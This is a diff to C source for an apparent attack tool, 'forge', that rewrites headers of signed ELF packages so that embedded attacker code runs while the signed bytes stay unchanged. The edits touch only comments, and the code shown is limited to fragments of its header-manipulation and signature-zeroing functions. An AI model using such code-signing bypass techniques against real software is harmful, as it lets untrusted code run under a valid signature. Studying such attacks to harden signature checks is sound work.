@@ -1,10 +1,11 @@
-/* Changes signed packages as somebody would who wants other code to be run, but has no key: the bytes that are signed
- * stay what they are and in their order, what the file says of them does not. The code comes along as a constant: a
+/* Changes signed packages like an attacker who wants other code to run, but has no key: the signed bytes keep their
+ * values and their order, and the file's other headers describe them differently. The code comes along as a constant: a
  * whole package, ready to run at a given address.
  *
  *   forge where VICTIM                 prints two addresses: that of the constants, and that which ATTACK "moved" gives
- * them forge carry EVIL ADDRESS NPY       the package as a constant that can run at the address forge ATTACK VICTIM
- * EVIL OUTPUT    EVIL is what VICTIM's constant was made of; the attacks stand at the end */
+ *                                      them
+ *   forge carry EVIL ADDRESS NPY       the package as a constant that can run at the address
+ *   forge ATTACK VICTIM EVIL OUTPUT    EVIL is the package in VICTIM's constant; the attacks are listed at the end */
 #include <elf.h>
 #include <stdbool.h>
 #include <stdio.h>
@@ -124,7 +125,7 @@ static void carry(const char *path, uint64_t address, const char *output)
 	char shape[118], head[129];
 
 	move_tables(&evil, address);
-	/* What may differ where the seal is expected is zeros in what is signed. */
+	/* The signed bytes have zeros for the parts of the seal that may differ. */
 	memset(evil.seal->signature, 0, FREE_BYTES);
 	snprintf(shape, sizeof(shape), "{'descr': '|u1', 'fortran_order': False, 'shape': (%lu,), }",
 		 (unsigned long)loaded_size(&evil));
@@ -135,7 +136,7 @@ static void carry(const char *path, uint64_t address, const char *output)
 
 /* ---- the same bytes, laid out anew ---- */
 
-/* Where the second of the new segments begins: behind the headers, and in place for the bytes behind the ELF header. */
+/* The start of the second of the new segments: after the headers, and in place for the bytes after the ELF header. */
 #define SECOND ((uint64_t)PAGE + sizeof(Elf64_Ehdr))
 
 static uint64_t signed_before_constants(const struct package *victim)
@@ -211,7 +212,7 @@ static void attack_headers(struct package *victim, const struct package *evil)
 	lay_out_anew(victim, evil, 0);
 }
 
-/* Other headers, behind the signed bytes, give the constants' package its place. */
+/* Other headers, after the signed bytes, give the constants' package its place. */
 static void attack_phoff(struct package *victim, const struct package *evil)
 {
 	uint64_t size = victim->header->e_phnum * sizeof(Elf64_Phdr);
